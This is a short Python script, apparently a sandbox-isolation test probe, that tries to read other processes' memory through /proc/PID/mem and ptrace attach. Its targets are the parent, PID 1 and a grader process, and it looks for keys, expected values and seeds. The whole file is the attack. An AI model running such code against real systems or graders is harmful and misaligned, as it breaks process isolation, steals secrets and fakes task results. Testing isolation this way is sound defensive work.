# Goes for the grader's memory: /proc/PID/mem, process_vm_readv and ptrace on the parent and on the grader.
# Gains: keys, expected values and the seed, which the grader holds in memory.
# ruff: noqa
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, int("@GRADER@"), int("@VICTIM@")}:
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and high - low < 1 << 26:
                    memory.seek(low)
                    data = memory.read(high - low)
                    if (at := data.find(b"canary")) >= 0:
                        print("read", pid, data[at:at + 60])
    except (OSError, ValueError) as error:
        print(pid, type(error).__name__)
    print(pid, "ptrace", libc.ptrace(16, pid, 0, 0))
